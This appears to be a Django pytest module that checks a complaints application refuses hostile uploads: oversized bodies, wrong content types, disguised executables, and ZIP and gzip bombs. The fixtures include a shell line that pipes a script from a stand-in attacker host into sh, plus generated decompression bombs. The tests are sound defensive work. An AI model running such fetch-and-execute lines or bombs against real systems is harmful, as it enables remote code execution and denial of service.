"""Hostile requests (#10): oversized bodies, wrong content types, disguised executables, ZIP and
gzip bombs. Each is refused with a clear message (a page, or JSON under /api/), never a 500,
and nothing is saved."""

from __future__ import annotations

import gzip
import io
import json
import time
import tracemalloc
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from rest_framework.test import APIClient

from apps.complaints.models import Complaint, ComplaintAttachment
from apps.customers.models import Customer
from apps.feedback.models import Feedback
from tests.complaints.factories import make_complaint
from tests.security.world import api_url

COMPLAINT = {
    "complainant_name": "Pat Customer",
    "complainant_email": "pat@example.org",
    "description": "The pump leaks.",
}
# A Windows program: "MZ", then the DOS stub's bytes.
PROGRAM = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 48 + b"This program cannot be run"
SCRIPT = b"#!/bin/sh\ncurl http://evil.example/x | sh\n"


def _client() -> Client:
    return Client(raise_request_exception=False)


def _zip_bomb(inflated_mb: int = 200) -> bytes:
    """A small ZIP that would inflate to `inflated_mb` of zeros."""
    buffer = io.BytesIO()
    chunk = b"\0" * (1024 * 1024)
    with (
        zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive,
        archive.open("data.csv", "w") as member,
    ):
        for _ in range(inflated_mb):
            member.write(chunk)
    return buffer.getvalue()


@pytest.fixture(scope="module")
def zip_bomb() -> bytes:
    return _zip_bomb()


def _error(response) -> dict:
    assert response["Content-Type"].startswith("application/json"), response.content[:200]
    return response.json()["error"]


@pytest.mark.django_db
def test_a_body_over_the_request_limit_is_refused_before_it_is_read(settings):
    settings.REQUEST_MAX_BYTES = 64 * 1024
    big = SimpleUploadedFile("photo.png", b"\x89PNG\r\n\x1a\n" + b"\0" * 100_000, content_type="image/png")
    page = _client().post(reverse("complaints:public_new"), {**COMPLAINT, "attachments": [big]})
    assert page.status_code == 413
    assert "we accept at most 0.1 MB" in page.content.decode()
    assert "Nothing was saved" in page.content.decode()

    api = APIClient(raise_request_exception=False)
    response = api.post("/api/v1/feedback/", json.dumps({"text": "x" * 100_000}), content_type="application/json")
    assert response.status_code == 413
    assert _error(response)["code"] == "request_too_large"
    assert Complaint.objects.count() == Feedback.objects.count() == 0


@pytest.mark.django_db
def test_more_form_data_than_django_takes_is_a_413_with_a_message(api_clients):
    too_much = "x" * 3_000_000  # over DATA_UPLOAD_MAX_MEMORY_SIZE, under REQUEST_MAX_BYTES
    page = _client().post(reverse("feedback:submit"), {"text": too_much})
    assert page.status_code == 413
    assert "we accept at most 2.5 MB" in page.content.decode()

    body = json.dumps({"channel": "email", "text": too_much})
    response = api_clients["staff"].post("/api/v1/feedback/", body, content_type="application/json")
    assert response.status_code == 413
    assert "at most 2.5 MB" in _error(response)["message"]

    fields = _client().post(reverse("complaints:public_new"), {**COMPLAINT, "extra": ["x"] * 1500})
    assert fields.status_code == 413
    assert "more fields or files than we accept" in fields.content.decode()
    assert Complaint.objects.count() == Feedback.objects.count() == 0


def _operations_with_a_body() -> dict[tuple[str, str], bool]:
    """(method, path) of every POST and PATCH -> whether its request body has fields."""
    from drf_spectacular.generators import SchemaGenerator

    schema = SchemaGenerator().get_schema(request=None, public=True)
    components = schema["components"]["schemas"]
    operations = {}
    for path, by_method in schema["paths"].items():
        for method, operation in by_method.items():
            if method not in ("post", "patch"):
                continue
            body = operation.get("requestBody", {}).get("content", {}).get("application/json", {}).get("schema", {})
            if "$ref" in body:
                body = components[body["$ref"].rsplit("/", 1)[-1]]
            operations[(method.upper(), path)] = bool(body.get("properties"))
    return operations


@pytest.mark.django_db
def test_every_api_write_refuses_a_body_it_cannot_read_with_a_json_415(world, api_clients):
    problems = []
    for (method, path), has_fields in _operations_with_a_body().items():
        send = getattr(api_clients["quality_manager"], method.lower())
        xml = "<complaint><status>closed</status></complaint>"
        response = send(api_url(path, world), xml, content_type="application/xml")
        if response.status_code >= 500:
            problems.append(f"{method} {path}: {response.status_code}")
        elif has_fields and response.status_code != 415:
            problems.append(f"{method} {path}: {response.status_code}, not 415")
        elif response.status_code == 415 and _error(response)["code"] != "unsupported_media_type":
            problems.append(f"{method} {path}: 415 without its JSON error")
    assert problems == []
    response = api_clients["staff"].post("/api/v1/feedback/", "text=hi", content_type="text/plain")
    assert response.status_code == 415
    assert "text/plain" in _error(response)["message"]


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        ("invoice.pdf", PROGRAM, "is not an allowed file type"),
        ("photo.png", SCRIPT, "does not contain what its name says"),
        ("setup.exe", b"just text\n", "does not contain what its name says"),
        ("report.pdf.exe", b"%PDF-1.7\n", "does not contain what its name says"),
    ],
)
def test_a_disguised_executable_is_refused_on_every_upload_form(name, content, message, quality_manager):
    upload = SimpleUploadedFile(name, content, content_type="image/png")
    page = _client().post(reverse("complaints:public_new"), {**COMPLAINT, "attachments": [upload]})
    assert page.status_code == 200
    assert message in page.content.decode()
    assert Complaint.objects.count() == 0

    complaint = make_complaint(qm=quality_manager)
    upload = SimpleUploadedFile(name, content, content_type="text/plain")
    track = reverse("complaints:track", args=[complaint.tracking_token])
    response = _client().post(track, {"form": "info", "body": "See the file.", "attachments": [upload]})
    assert response.status_code == 400
    assert message in response.content.decode()
    assert ComplaintAttachment.objects.count() == 0


@pytest.mark.django_db
def test_a_zip_bomb_is_refused_everywhere_without_being_inflated(zip_bomb, clients, quality_manager):
    from tests.surveys.factories import CampaignFactory

    campaign = CampaignFactory(owner=quality_manager)
    attempts = [
        (_client(), reverse("complaints:public_new"), {**COMPLAINT}, "attachments", "photos.zip"),
        (_client(), reverse("complaints:public_new"), {**COMPLAINT}, "attachments", "photo.png"),
        (clients["quality_manager"], reverse("customers:customer_import"), {}, "file", "customers.csv"),
        (
            clients["quality_manager"],
            reverse("surveys:campaign_import", args=[campaign.pk]),
            {},
            "file",
            "contacts.csv",
        ),
    ]
    customers = Customer.objects.count()
    tracemalloc.start()
    started = time.monotonic()
    for client, url, data, field, name in attempts:
        upload = SimpleUploadedFile(name, zip_bomb, content_type="application/zip")
        response = client.post(url, {**data, field: upload})
        text = response.content.decode()
        assert response.status_code in (200, 400), (url, response.status_code)
        assert "not an allowed file type" in text or "not UTF-8 text" in text or "not a CSV" in text, url
    elapsed = time.monotonic() - started
    _current, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert Complaint.objects.count() == 0
    assert Customer.objects.count() == customers
    # 200 MB inflated would show in both; what was read is the 200 KB upload.
    assert peak < 50 * 1024 * 1024
    assert elapsed < 20


@pytest.mark.django_db
def test_a_gzip_bomb_sent_as_the_body_is_not_inflated(api_clients):
    bomb = gzip.compress(b'{"text": "' + b"x" * 50_000_000 + b'"}', compresslevel=9)
    assert len(bomb) < 100_000
    response = api_clients["staff"].post(
        "/api/v1/feedback/", bomb, content_type="application/json", HTTP_CONTENT_ENCODING="gzip"
    )
    assert response.status_code == 400
    assert _error(response)["code"] == "parse_error"
    assert Feedback.objects.count() == 0
